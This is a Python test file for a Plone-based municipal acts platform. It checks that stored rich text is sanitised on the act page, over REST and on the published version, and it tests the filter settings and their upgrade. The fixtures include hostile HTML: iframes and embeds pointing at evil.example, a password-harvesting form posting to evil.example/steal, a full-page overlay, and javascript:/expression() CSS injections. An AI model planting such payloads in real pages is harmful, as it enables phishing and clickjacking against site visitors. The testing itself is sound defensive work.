"""Stored rich text is shown filtered: no frames, plugins, forms or inline
style, on the act page, over REST and on the public version page."""

from imio.municipal.platform.html_filter import harden_html_filter
from imio.municipal.publication.sections import current_version
from imio.municipal.testing import require_libreoffice
from plone.base.interfaces import IFilterSchema
from plone.registry.interfaces import IRegistry
from plone.testing.zope import Browser
from zope.component import getUtility

import transaction


HOSTILE = (
    "<p>Vu le Code de la démocratie locale ;</p>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<object data="https://evil.example/object.swf"></object>'
    '<embed src="https://evil.example/embed.swf">'
    '<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>'
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Avis important</p>'
    '<div style="background:url(javascript:alert(1))">fond</div>'
    '<span style="width:expression(alert(1))">largeur</span>'
)
# A whole page has Plone's own forms (search): the hostile one names its target.
GONE = ("evil.example", "<iframe", "<embed", 'name="password"', "position:fixed", "expression(")
ACT = {
    "@type": "Act",
    "title": "Règlement sur le texte enrichi",
    "kind": "deliberation",
    "body": "conseil",
    "matter": "other",
    "responsible_service": "finances",
    "session_date": "2026-10-26",
    "motivation": {"data": HOSTILE, "content-type": "text/html"},
    "decision": {"data": "<p>Article 1er.</p>" + HOSTILE, "content-type": "text/html"},
}


def assert_filtered(text: str):
    assert "Vu le Code de la démocratie locale" in text
    assert "Avis important" in text  # the text stays, its style goes
    for marker in GONE:
        assert marker not in text, marker
    assert "javascript:alert" not in text


def page(app, url, login=None):
    browser = Browser(app)
    browser.handleErrors = False
    if login:
        browser.addHeader("Authorization", f"Basic {login}:demo")
    browser.open(url)
    return browser.contents


def test_rich_text_is_filtered_on_the_act_page_over_rest_and_once_published(
    functional, functional_app, api_as, timestamps
):
    require_libreoffice(functional)
    agent = api_as("namur-agent-finances")
    created = agent.post("/namur/actes", json=ACT)
    assert created.status_code == 201, created.text
    url = created.json()["@id"]

    body = agent.get(url).json()
    assert_filtered(body["motivation"]["data"])
    assert_filtered(body["decision"]["data"])
    transaction.begin()
    assert_filtered(page(functional_app, url, "namur-agent-finances"))

    assert api_as("namur-chef-finances").post(f"{url}/@workflow/propose").status_code == 200
    secretary = api_as("namur-secretaire")
    for transition in ("validate", "adopt", "declare_executory", "publish"):
        response = secretary.post(f"{url}/@workflow/{transition}")
        assert response.status_code == 200, (transition, response.text)
    transaction.begin()
    portal = functional["portal"]
    act = portal.unrestrictedTraverse(url.replace(portal.absolute_url() + "/", ""))
    public = current_version(act)
    assert_filtered(public.text.output)
    assert_filtered(page(functional_app, public.absolute_url()))


def test_the_filter_settings_and_their_upgrade(portal):
    settings = getUtility(IRegistry).forInterface(IFilterSchema, prefix="plone")
    assert "iframe" not in settings.valid_tags
    assert {"iframe", "object", "embed", "form"} <= set(settings.nasty_tags)
    assert "style" not in settings.custom_attributes
    # A site from before: Plone's defaults and an administrator's own choice.
    settings.valid_tags = settings.valid_tags + ["iframe"]
    settings.custom_attributes = ["style", "data-note"]
    settings.nasty_tags = ["script"]
    from imio.municipal.upgrades.v1010_html_filter import upgrade

    upgrade(None)
    assert "iframe" not in settings.valid_tags
    assert {"iframe", "object", "embed", "form", "script"} <= set(settings.nasty_tags)
    assert settings.custom_attributes == ["data-note"]
    harden_html_filter()  # twice changes nothing
    assert settings.custom_attributes == ["data-note"]


def test_only_the_editor_format_classes_are_kept(portal):
    """The theme's utility classes would overlay or hide the page like inline
    style; the editor's formats and the personal data mark stay."""
    from plone.app.textfield.value import RichTextValue

    stored = (
        '<p class="position-fixed top-0 start-0 w-100 h-100 bg-white">Avis important</p>'
        '<p class="d-none">caché</p>'
        '<p>Madame <span class="donnee-personnelle">Gaëtane</span> '
        '<span class="discreet alert">note</span></p>'
        '<table class="listing modal"><tr><td>1</td></tr></table>'
    )
    shown = RichTextValue(stored, "text/html", "text/x-html-safe").output
    for gone in ("position-fixed", "top-0", "w-100", "bg-white", "d-none", "alert", "modal"):
        assert gone not in shown, gone
    assert "Avis important" in shown and "caché" in shown
    assert '<span class="donnee-personnelle">Gaëtane</span>' in shown
    assert '<span class="discreet">note</span>' in shown
    assert '<table class="listing">' in shown
    assert "<p>Avis important</p>" in shown
